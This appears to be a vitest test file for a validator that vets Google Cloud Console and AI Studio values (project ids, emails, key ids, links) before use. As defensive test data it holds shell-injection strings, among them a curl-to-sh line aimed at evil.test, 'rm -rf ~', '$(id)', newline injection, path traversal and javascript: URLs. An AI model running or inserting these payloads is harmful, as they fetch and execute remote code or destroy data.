/**
 * The one validator for values taken from pages, URLs and responses, and the places that must use
 * it: console/AI Studio URL parsing, stored guide state, key ids from page links, the link builder.
 */
import { describe, expect, it } from 'vitest';
import { aiStudioLinks, consoleLinks, consoleUrl, contextFromUrl } from '@/utils/console-links';
import { keyIdFromHref } from '@/utils/guide/pages';
import { parseGuideState, pickContext } from '@/utils/guide/state';
import { authuserValue, googleLink, pageContext, pageValue, projectValue, type PageValueKind } from '@/utils/page-values';

/** What an attacker or a clumsy paste puts where a value is expected. */
const HOSTILE_SUFFIXES = [
  ';curl -s https://evil.test/p|sh;#',
  '|sh',
  '&& rm -rf ~',
  '$(id)',
  '`id`',
  "'",
  '"',
  '\r\nid',
  '\nid',
  ' x',
  '\u2028',
  '\u0000',
  '\u202e',
  '…',
] as const;

const VALID: Record<PageValueKind, string[]> = {
  projectId: ['gen-lang-client-0371227417', 'my-project', 'abcdef', 'a'.repeat(30), 'a-b-c-d-1'],
  projectNumber: ['445009168042', '1', '9'.repeat(20)],
  accountIndex: ['0', '1', '12'],
  email: ['me@example.com', 'first.last+tag@sub.example.co.uk', 'a_b-c@x-y.io'],
  keyId: ['43b0fe02-9493-4ea7-9255-0863fdef29b4', '5B9E7C1D-2F4A-4E8B-9C3D-7A6F1E2B8C90'],
  model: ['gemini-2.5-flash', 'gemini-2.5-flash-lite', 'gemma-3-27b-it', 'text-embedding-004', 'gemini-1.5-pro-latest'],
  service: ['generativelanguage.googleapis.com', 'aiplatform.googleapis.com', 'staging-generativelanguage.sandbox.googleapis.com'],
  quotaId: ['GenerateRequestsPerDayPerProjectPerModel-FreeTier', 'GenerateContentInputTokensPerModelPerMinute-FreeTier', 'GenerateContentRequestsPerMinutePerProjectPerRegion'],
  reason: ['API_KEY_INVALID', 'SERVICE_DISABLED', 'keyInvalid', 'dailyLimitExceeded', 'ipRefererBlocked'],
  googleStatus: ['PERMISSION_DENIED', 'RESOURCE_EXHAUSTED', 'UNAUTHENTICATED'],
};

const INVALID: Record<PageValueKind, string[]> = {
  projectId: ['p', 'abcde', 'a'.repeat(31), 'My-Project', '1project', 'project-', 'gen-lang-', 'proj_ect', 'example.com:proj', 'gen-lаng-client-1' /* Cyrillic а */, 'ＭＹ-project', ''],
  projectNumber: ['0', '012345', '1'.repeat(21), '12 34', '１２３４５', '-1', '1e5'],
  accountIndex: ['123', '-1', '١' /* Arabic-Indic one */, ' 1'],
  email: ['me', '@example.com', 'me@', 'me@example', 'me@@example.com', '"me"@example.com', 'me @example.com', 'me@exam_ple.com', `${'a'.repeat(65)}@example.com`, `me@${'a'.repeat(64)}.com`, 'mе@example.com' /* Cyrillic е */],
  keyId: ['abc', 'abc-1', '<script>', '43b0fe02-9493-4ea7-9255-0863fdef29b', '43b0fe02949349ea79255a0863fdef29b4a', 'g3b0fe02-9493-4ea7-9255-0863fdef29b4', '../../x'],
  model: ['Gemini', 'gemini/../x', 'gemini 2.5', '-gemini', 'gemini-', 'a'.repeat(101), 'gemini:generate'],
  service: ['googleapis.com', 'evil.com', 'x.googleapis.com.evil.test', 'X.googleapis.com', 'a..googleapis.com', 'a.googleapis.comx'],
  quotaId: ['1Quota', '-Quota', 'Quota--FreeTier', 'Quota FreeTier', 'Quota/PerDay', 'a'.repeat(200)],
  reason: ['AB', 'api_key_invalid', 'API KEY', 'API-KEY', 'AIza…abcd'],
  googleStatus: ['permission_denied', 'A', 'PERMISSION DENIED', 'PERMISSION_DENIED1'],
};

describe('pageValue: Google’s grammars', () => {
  for (const kind of Object.keys(VALID) as PageValueKind[]) {
    it(`${kind}: accepts real values, refuses near misses and hostile strings`, () => {
      for (const value of VALID[kind]) expect(pageValue(kind, value), `${kind} ${JSON.stringify(value)}`).toBe(value);
      for (const value of INVALID[kind]) expect(pageValue(kind, value), `${kind} ${JSON.stringify(value)}`).toBeUndefined();
      // Any valid value with anything hostile before or after it, or in its middle, fails.
      for (const value of VALID[kind]) {
        for (const hostile of HOSTILE_SUFFIXES) {
          for (const candidate of [value + hostile, hostile + value, value.slice(0, 3) + hostile + value.slice(3)]) {
            expect(pageValue(kind, candidate), `${kind} ${JSON.stringify(candidate)}`).toBeUndefined();
          }
        }
      }
    });
  }

  it('refuses non-strings and over-long input before any regex runs', () => {
    for (const kind of Object.keys(VALID) as PageValueKind[]) {
      for (const value of [undefined, null, 1, {}, ['my-project'], 'a'.repeat(255), 'a'.repeat(1_000_000)]) expect(pageValue(kind, value)).toBeUndefined();
    }
  });

  it('a masked key never passes any grammar', () => {
    for (const kind of Object.keys(VALID) as PageValueKind[]) {
      for (const masked of ['AIza…abcd', 'AQ.A…wxyz', '••••••••']) expect(pageValue(kind, masked)).toBeUndefined();
    }
  });

  it('project is an id or a number; authuser an index or an email', () => {
    expect(projectValue('gen-lang-client-0371227417')).toBe('gen-lang-client-0371227417');
    expect(projectValue('445009168042')).toBe('445009168042');
    expect(projectValue('x;curl -s https://evil.test/p|sh;#')).toBeUndefined();
    expect(authuserValue('1')).toBe('1');
    expect(authuserValue('me@example.com')).toBe('me@example.com');
    expect(authuserValue('1&&id')).toBeUndefined();
    expect(pageContext({ project: 'my-project', authuser: '$(id)', extra: 'x' })).toEqual({ project: 'my-project' });
    expect(pageContext('my-project')).toEqual({});
  });
});

describe('entry points use the validator', () => {
  it('contextFromUrl drops hostile project= and authuser= values (decoded or not)', () => {
    const hostile = 'https://console.cloud.google.com/apis/credentials/deleted?project=x%3Bcurl%20-s%20https%3A%2F%2Fevil.test%2Fp%7Csh%3B%23&authuser=%24(id)&keyDoctorGuide=restore-deleted-key';
    expect(contextFromUrl(hostile)).toEqual({});
    expect(contextFromUrl('https://console.cloud.google.com/apis/credentials?project=my-project%0D%0Aid&authuser=1%0Aid')).toEqual({});
    expect(contextFromUrl('https://console.cloud.google.com/apis/credentials?project=my-project&authuser=me@example.com')).toEqual({ project: 'my-project', authuser: 'me@example.com' });
    // A hostile authuser= does not hide the account in the path.
    expect(contextFromUrl('https://aistudio.google.com/u/2/api-keys?authuser=%60id%60')).toEqual({ authuser: '2' });
  });

  it('stored guide state keeps only valid project, account and key id', () => {
    expect(pickContext({ project: 'a;b', authuser: '1' })).toEqual({ authuser: '1' });
    const stored = {
      version: 1,
      flowId: 'restore-deleted-key',
      stepId: 'open-deleted',
      context: { project: 'x`id`', authuser: 'me@example.com\nid' },
      choice: { name: 'Gemini API Key', detail: '', signature: 's', index: 0, keyId: "43b0fe02-9493-4ea7-9255-0863fdef29b4';id" },
      foundDone: [],
      startedAt: 1,
    };
    const state = parseGuideState(stored);
    expect(state?.context).toEqual({});
    expect(state?.choice?.keyId).toBeUndefined();
  });

  it('key ids from page links must be console uids', () => {
    expect(keyIdFromHref('/apis/credentials/key/43b0fe02-9493-4ea7-9255-0863fdef29b4?project=p')).toBe('43b0fe02-9493-4ea7-9255-0863fdef29b4');
    expect(keyIdFromHref('/apis/credentials/key/x%3Bid?project=p')).toBeUndefined();
    expect(keyIdFromHref('/apis/credentials/key/AIzaSyDEMO-ok-0123456789012345678901234')).toBeUndefined();
  });
});

describe('links: Google’s https hosts only', () => {
  it('googleLink accepts Google’s https pages and refuses anything else', () => {
    for (const url of ['https://console.cloud.google.com/apis/credentials?project=my-project', 'https://aistudio.google.com/u/1/api-keys', 'https://ai.google.dev/gemini-api/docs/api-key']) {
      expect(googleLink(url)).toBe(url);
    }
    for (const url of [
      'http://console.cloud.google.com/',
      'https://evil.test/',
      'https://console.cloud.google.com.evil.test/',
      'https://console.cloud.google.com@evil.test/',
      'https://user:pass@console.cloud.google.com/',
      'https://console.cloud.google.com:8443/',
      'javascript:alert(1)',
      'data:text/html,x',
      '//evil.test/',
      'https://console.cloud.google.com/apis/credentials?project=AIzaSyDEMO-ok-0123456789012345678901234',
      'https://console.cloud.google.com/apis/credentials?x=AQ.Ab8RN6%4CDEMO0123456789abcdefghij',
      'https://console.cloud.google.com/apis/credentials?project=AIza%E2%80%A6abcd',
      'not a url',
    ]) {
      expect(googleLink(url), url).toBeUndefined();
    }
  });

  it('the link builder drops invalid values and never leaves Google’s hosts', () => {
    expect(consoleLinks.credentials({ project: 'x;id', authuser: '$(id)' })).toBe('https://console.cloud.google.com/apis/credentials');
    expect(consoleLinks.keyEdit('x/../../evil', { project: 'my-project' })).toBe('https://console.cloud.google.com/apis/credentials?project=my-project');
    expect(aiStudioLinks.apiKeys({ authuser: '1' })).toBe('https://aistudio.google.com/u/1/api-keys');
    expect(aiStudioLinks.apiKeys({ authuser: '1/../../evil' })).toBe('https://aistudio.google.com/api-keys');
    expect(() => consoleUrl('@evil.test/')).toThrow(RangeError);
  });
});
